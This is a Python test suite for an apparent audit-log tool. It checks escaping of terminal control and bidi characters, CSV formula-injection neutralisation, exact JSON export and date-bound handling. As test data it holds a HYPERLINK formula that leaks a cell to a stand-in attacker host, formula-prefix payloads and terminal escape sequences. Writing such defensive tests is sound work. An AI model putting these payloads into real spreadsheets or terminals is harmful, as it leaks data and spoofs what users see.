"""Hostile event text in the model: the one sanitiser for text shown to people (safe_text), the one CSV cell
neutraliser and the exact JSON of export, and the one bound check of date arithmetic (times)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from hypothesis import given, settings, strategies as st

from auditkit.errors import FilterError
from auditkit.model import export
from auditkit.model.events import FIELDS, format_timestamp
from auditkit.model.filters import parse, resolve_time, time_range, to_sql
from auditkit.model.safe_text import UNSAFE, is_printable, printable
from auditkit.model.times import LATEST, shifted

UTC = dt.timezone.utc
NOW = dt.datetime(2026, 11, 1, 12, 0, tzinfo=UTC)

# What a terminal acts on or a reader cannot see: every C0 control, DEL, every C1 control, bidi and zero-width.
DANGEROUS = [chr(c) for c in range(0x20)] + [chr(c) for c in range(0x7F, 0xA0)] + [
    "\u200b", "\u200d", "\u200e", "\u202a", "\u202e", "\u2066", "\u2069", "\u2028", "\ufeff", "\u061c"]


@pytest.mark.parametrize("char", DANGEROUS)
def test_printable_escapes_every_control_bidi_and_zero_width_character(char):
    shown = printable(f"a{char}b")
    assert shown == f"a\\x{ord(char):02x}b" if ord(char) < 0x100 else f"a\\u{ord(char):04x}b"
    assert is_printable(shown)


def test_printable_leaves_markup_looking_and_international_text_alone():
    for text in ["[/]", "[link=https://evil.example]safe[/link]", "<b>&amp;</b>", "Zoë 日本 👩‍💻"[:-3], "=1+1"]:
        assert printable(text) == text


def test_the_osc_title_and_clear_screen_of_the_issue_are_shown_not_obeyed():
    assert printable("evil\x1b]0;pwned\x07\x1b[2J") == "evil\\x1b]0;pwned\\x07\\x1b[2J"


@given(st.text())
def test_printable_output_never_holds_an_unsafe_character(text):
    assert UNSAFE.search(printable(text)) is None


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?leak="&B2,"Click")', "+1", "-2", "@SUM(A1)",
                                   "\t=1", "\r=1", "\n=1", "\uff1dcmd"])
def test_a_formula_cell_gets_a_leading_quote(value):
    assert export.csv_cell(value) == "'" + printable(value)


@pytest.mark.parametrize("value", ["web", "a=b", " =1", "'=1", "", 200, None])
def test_other_cells_are_left_as_they_are(value):
    assert export.csv_cell(value) == value


def _row(**fields):
    row = {f: None for f in FIELDS}
    row.update(id="EV1", timestamp="2026-10-01T10:00:00.000Z", details={})
    row.update(fields)
    return row


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60).filter(lambda s: "\x00" not in s), st.text(max_size=20))
def test_csv_cells_are_neutralised_and_json_is_exact(value, key):
    row = _row(app=value, target=value, user_agent=value, details={key: value}, status=-1)
    text = "".join(export.csv_chunks([row]))
    assert is_printable(text.replace("\n", ""))  # the only raw control: the csv module's line ends
    cells = list(csv.reader(io.StringIO(text)))[1]
    for name in ("app", "target", "user_agent"):
        cell = cells[FIELDS.index(name)]
        assert not cell.startswith(export.FORMULA_PREFIXES), cell
        assert cell == export.csv_cell(value)
    for fmt in ("json", "jsonl"):
        out = "".join(export.FORMATS[fmt]([row]))
        assert is_printable(out.replace("\n", ""))
        parsed = json.loads(out)[0] if fmt == "json" else json.loads(out)
        assert parsed == row  # exact, escapes and all


def test_until_the_last_representable_day_means_the_end_of_time():
    f = parse("since:2026-01-01 until:9999-12-31")
    assert time_range(f, NOW) == (dt.datetime(2026, 1, 1, tzinfo=UTC), LATEST)
    assert to_sql(f, NOW).params  # compiles
    assert resolve_time("until", "9999-12-31T23:59:59.999Z", NOW) == LATEST
    assert resolve_time("since", "0001-01-01T00:00+01:00", NOW).year == 1


def test_shifted_saturates_instead_of_overflowing():
    assert shifted(LATEST, dt.timedelta(days=1)) == LATEST
    assert shifted(dt.datetime(1, 1, 1, tzinfo=UTC), -dt.timedelta(days=1)).year == 1
    assert format_timestamp(LATEST) == "9999-12-31T23:59:59.999Z"


def test_a_relative_time_too_far_back_is_still_a_clear_error():
    with pytest.raises(FilterError, match="too far back"):
        time_range(parse("since:9999999w"), NOW)


@settings(max_examples=300)
@given(st.lists(st.tuples(st.sampled_from(["text", "user", "app", "target", "rack"]), st.text(min_size=1),
                          st.booleans()), max_size=4))
def test_a_filters_text_is_printable_and_parses_back_exactly(terms):
    from auditkit.model.filters import Filter, Term

    f = Filter(tuple(Term(key, value, negated) for key, value, negated in terms))
    text = f.to_text()
    assert is_printable(text)
    assert parse(text) == f


def test_escapes_in_quotes_name_a_character_and_other_backslashes_stay_literal():
    from auditkit.model.filters import Term

    assert parse(r'"a\x1bb\u202ec"').terms == (Term("text", "a\x1bb\u202ec"),)
    assert parse(r'"\\x41" "\q"').terms == (Term("text", "\\x41"), Term("text", "q"))


def test_printable_lines_keeps_the_lines_of_pretty_printed_json():
    from auditkit.model.safe_text import printable_lines

    text = json.dumps({"a": "x\u202ey", "b": [1]}, indent=2, ensure_ascii=False)
    assert printable_lines(text) == text.replace("\u202e", "\\u202e")
    assert printable_lines(text).count("\n") == text.count("\n")
